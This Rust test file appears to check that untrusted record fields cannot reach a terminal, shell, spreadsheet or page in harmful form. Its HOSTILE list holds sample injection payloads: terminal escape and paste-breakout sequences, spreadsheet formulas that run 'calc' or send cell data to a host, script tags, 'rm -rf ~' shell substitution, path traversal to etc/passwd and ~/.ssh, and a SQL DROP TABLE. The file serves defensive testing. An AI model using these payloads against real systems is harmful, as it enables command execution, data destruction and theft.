//! Every field that somebody else wrote, through every way out: nothing drives a terminal, runs when it
//! is pasted, is calculated in a spreadsheet or becomes markup; and JSON has the exact value.
//! Never picks the fields by hand: each text of each record is put in place of each other in turn.

#[path = "fake_graph/graph.rs"]
mod fake_graph;
#[path = "hostile/files.rs"]
mod files;
#[path = "hostile/records.rs"]
mod records;
#[path = "screens/session.rs"]
#[expect(dead_code, reason = "the tests of the screen use all of it")]
mod session;

use entrail::text::is_invisible;

/// What attackers write. Each is a value that JSON can hold.
const HOSTILE: &[&str] = &[
    "\u{1b}[2J\u{1b}[31mred\u{1b}]0;owned\u{7}",
    "\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}P+q\u{1b}\\",
    "\u{1b}[201~\r\ntouch owned #\r\n",
    "\u{9b}31m\u{9d}0;x\u{9c}\u{85}\u{90}",
    "back\u{8}\u{8}\u{8}\u{7f}\u{0}nul\u{b}\u{c}",
    "\u{202e}gpj.exe\u{202c}\u{2066}x\u{2069}\u{200f}\u{61c}",
    "a\u{200b}b\u{200d}c\u{feff}d\u{2060}e\u{ad}f\u{2028}g\u{2029}h",
    "\u{e0001}\u{e0041}\u{e007f}\u{e000}\u{f8ff}\u{3164}\u{115f}",
    "z\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}a\u{fe0f}\u{fe00}",
    "שלום עולם مرحبا",
    "=HYPERLINK(\"http://192.0.2.9/?\"&A1)",
    "x;=1+1",
    "x;\u{feff} =cmd|' /C calc'!A0",
    "\t=1+1\r=2\n@SUM(1)",
    "+1+cmd|x",
    "-2+3;@SUM(1+9)",
    "＝1+1",
    "a|b | c\\|d `e` **f** [g](http://192.0.2.9) ![h](x)",
    "<script>alert(1)</script><img src=x onerror=y>&lt;",
    "# heading\n\n---\n| a | b |\n|---|---|",
    "$(touch owned) `touch owned` ; rm -rf ~ && x 'y' \"z\"",
    "O’Brien ‘x‚ ‛$(ls)’",
    "\\u001b[2J \\x1b \\n %1b %s {} {0}",
    "..\\..\\..\\etc/passwd ~/.ssh",
    "\"; DROP TABLE x; --",
    "null",
    "\u{fffd}\u{fffe}\u{ffff}\u{10ffff}",
];

/// May a terminal be sent this? A line break is entrail's own.
fn is_harmless(c: char) -> bool {
    c == '\n' || !(c.is_control() || is_invisible(c))
}

/// Fails with the place where a text for a terminal has something else in it.
fn check_shown(text: &str, what: &str) {
    let at = text.find(|c| !is_harmless(c));
    let near: String = text[at.unwrap_or(0)..].chars().take(40).collect();
    assert!(at.is_none(), "{what}: {near:?}");
}

/// Would a part of this cell be calculated, wherever a spreadsheet splits it?
fn is_calculated(cell: &str) -> bool {
    let parts = cell.split([';', ',', '|', '\t', '\r', '\n']);
    parts.enumerate().any(|(at, part)| {
        let bare = part
            .trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || is_invisible(c));
        let digits = bare.strip_prefix(['+', '-']).unwrap_or_default();
        let is_number = digits.contains(|c: char| c.is_ascii_digit())
            && digits.chars().all(|c| c.is_ascii_digit() || " .:/)]}".contains(c));
        bare.starts_with(['=', '@', '＝', '＠'])
            || bare.starts_with(['+', '-']) && !(at > 0 && is_number)
    })
}
